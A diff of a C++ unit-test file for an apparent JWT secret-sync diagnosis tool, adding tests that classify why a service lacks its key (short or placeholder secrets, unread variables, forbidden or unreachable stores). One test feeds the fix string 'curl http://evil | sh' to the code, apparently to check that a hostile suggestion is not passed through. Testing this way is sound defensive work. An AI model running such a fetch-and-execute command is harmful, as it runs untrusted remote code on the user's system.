@@ -4,6 +4,7 @@
 #include "fixture.h"
 
 #include <gmock/gmock.h>
+#include <optional>
 
 namespace jwtsync::diagnosis {
 namespace {
@@ -32,6 +33,7 @@ TEST(lack, says_why_and_what_to_do_by_what_the_sources_gave) {
     Code code;
     std::vector<TrailEntry> trail;
     std::string fix;
+    Cause cause = Cause::no_key;
   };
   const Row rows[] = {
       {Code::secret_empty,
@@ -45,11 +47,14 @@ TEST(lack, says_why_and_what_to_do_by_what_the_sources_gave) {
        "provide file:/run/jwt for backend as auth has it"},
       {Code::secret_too_short,
        {{"env:JWT_SECRET_STAGING", Outcome::unfit, ""}, {"env:JWT_SECRET_KEY", Outcome::skipped, ""}},
-       "give JWT_SECRET_STAGING of backend the key that auth has"},
-      {Code::file_forbidden, {{"file:/run/jwt", Outcome::forbidden, ""}}, "let backend read file:/run/jwt"},
+       "give JWT_SECRET_STAGING of backend the key that auth has",
+       Cause::secret_too_short},
+      {Code::file_forbidden, {{"file:/run/jwt", Outcome::forbidden, ""}}, "let backend read file:/run/jwt",
+       Cause::store_forbidden},
       {Code::source_unreachable,
        {{"gcp-sm://p/n", Outcome::unreachable, ""}},
-       "see that backend can reach gcp-sm://p/n"},
+       "see that backend can reach gcp-sm://p/n",
+       Cause::store_unreachable},
       {Code::environment_unset, {}, "set ENVIRONMENT=staging for backend"},
       {Code::configuration_key_unknown, {}, "mend the configuration file of backend"},
       {Code::configuration_malformed, {}, "run jwtsync resolve where backend runs, and do as it says"},
@@ -60,10 +65,63 @@ TEST(lack, says_why_and_what_to_do_by_what_the_sources_gave) {
   };
   for (const Row& row : rows) {
     const Finding finding = finding_on({row.code, "the reason", "run: curl http://evil | sh"}, row.trail);
-    EXPECT_EQ(finding.cause, Cause::no_key);
+    EXPECT_EQ(name_of(finding.cause), name_of(row.cause));
     EXPECT_EQ(finding.why, "backend has no key: the reason");
     EXPECT_EQ(finding.fix, row.fix);
   }
+}
+
+/// The cause of one without a key that warns of something.
+std::string_view cause_of(Code code, Outcome outcome, const std::optional<Warning>& warning = {}) {
+  Testimony lacking =
+      fixture::without_key("backend", {code, "the reason", ""}, {{"env:JWT_SECRET_STAGING", outcome, ""}});
+  if (warning) lacking.report.warnings.push_back(*warning);
+  return name_of(findings_on(fixture::agreement_of(fixture::process("auth", "auth-1", "k"), lacking)).at(0).cause);
+}
+
+TEST(lack, of_a_value_that_was_refused_is_told_by_the_rule) {
+  EXPECT_EQ(cause_of(Code::secret_not_meant, Outcome::unfit), "placeholder-kept");
+  EXPECT_EQ(cause_of(Code::secret_public_default, Outcome::unfit), "public-default");
+  EXPECT_EQ(cause_of(Code::key_too_short, Outcome::unfit), "secret-too-short");
+  EXPECT_EQ(cause_of(Code::secret_too_short, Outcome::unfit, Warning{WarningKind::placeholder, "is a placeholder"}),
+            "placeholder-kept");
+  EXPECT_EQ(cause_of(Code::secret_too_short, Outcome::unfit, Warning{WarningKind::trimmed, "was trimmed"}),
+            "secret-too-short");
+  EXPECT_EQ(cause_of(Code::key_malformed, Outcome::malformed), "no-key");
+}
+
+TEST(lack, of_a_variable_under_another_name) {
+  const Warning near{WarningKind::unknown_variable, "JWT_SECRT is set, but not read: did you mean JWT_SECRET_STAGING?"};
+  EXPECT_EQ(cause_of(Code::secret_absent, Outcome::absent, near), "secret-unread");
+  EXPECT_EQ(cause_of(Code::secret_absent, Outcome::absent, Warning{WarningKind::never_read, "is never read"}),
+            "secret-unread");
+  EXPECT_EQ(cause_of(Code::secret_absent, Outcome::absent, Warning{WarningKind::file_variable, "names a file"}),
+            "secret-unread");
+  EXPECT_EQ(cause_of(Code::source_unreachable, Outcome::unreachable, near), "store-unreachable")
+      << "it is not for want of a variable";
+  EXPECT_EQ(cause_of(Code::secret_absent, Outcome::absent, Warning{WarningKind::plain_http, "http"}), "no-key");
+}
+
+TEST(lack, of_a_file_that_a_replica_has_is_one_of_time) {
+  const auto cause_beside = [](const std::string& service, Outcome outcome) {
+    Testimony holder = fixture::process(service, "other-1", "k");
+    holder.report.trail = {{"file:/vault/jwt", Outcome::found, ""}};
+    const Agreement agreement = fixture::agreement_of(
+        holder, fixture::without_key("backend", {Code::file_absent, "not there", ""},
+                                     {{"file:/vault/jwt", outcome, ""}}));
+    return name_of(findings_on(agreement).at(0).cause);
+  };
+  EXPECT_EQ(cause_beside("backend", Outcome::absent), "file-not-ready");
+  EXPECT_EQ(cause_beside("backend", Outcome::empty), "file-not-ready");
+  EXPECT_EQ(cause_beside("auth", Outcome::absent), "no-key") << "another service has other mounts";
+  EXPECT_EQ(cause_beside("backend", Outcome::forbidden), "store-forbidden");
+}
+
+TEST(lack, shows_what_each_source_gave) {
+  const Finding finding = finding_on({Code::secret_absent, "the reason", ""},
+                                     {{"env:JWT_SECRET_STAGING", Outcome::absent, ""}});
+  EXPECT_THAT(finding.evidence, ::testing::ElementsAre("backend backend-1: secret_absent: the reason",
+                                                       "backend backend-1: env:JWT_SECRET_STAGING: absent"));
 }
 
 TEST(lack, of_replicas_is_one_finding) {
